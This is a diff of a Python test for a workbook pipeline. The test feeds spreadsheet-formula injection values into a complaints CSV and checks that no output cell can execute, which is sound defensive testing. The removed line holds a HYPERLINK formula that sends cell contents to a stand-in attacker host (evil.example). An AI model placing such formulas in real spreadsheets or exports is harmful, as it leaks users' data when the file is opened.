@@ -138,8 +138,7 @@ def test_a_real_run_with_payloads_in_the_data_writes_no_cell_that_can_run(small_
     tickets.to_csv(tickets_path, index=False, encoding="utf-8-sig")
     complaints_path = small_workbook / "data" / "complaints.csv"
     complaints = pd.read_csv(complaints_path, dtype=str, keep_default_na=False, encoding="gbk")
-    complaints["类别"] = [("=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"x\")", "@类别", "-账单", "账单")[i % 4]
-                        for i in range(len(complaints))]
+    complaints["类别"] = [(HYPERLINK, "@类别", "-账单", "账单")[i % 4] for i in range(len(complaints))]
     complaints.to_csv(complaints_path, index=False, encoding="gbk")
     out = tmp_path / "out"
     summary = run_workbook(small_workbook, out=out, only=["02_service_kpis", "03_root_cause"], jobs=2, progress=False)
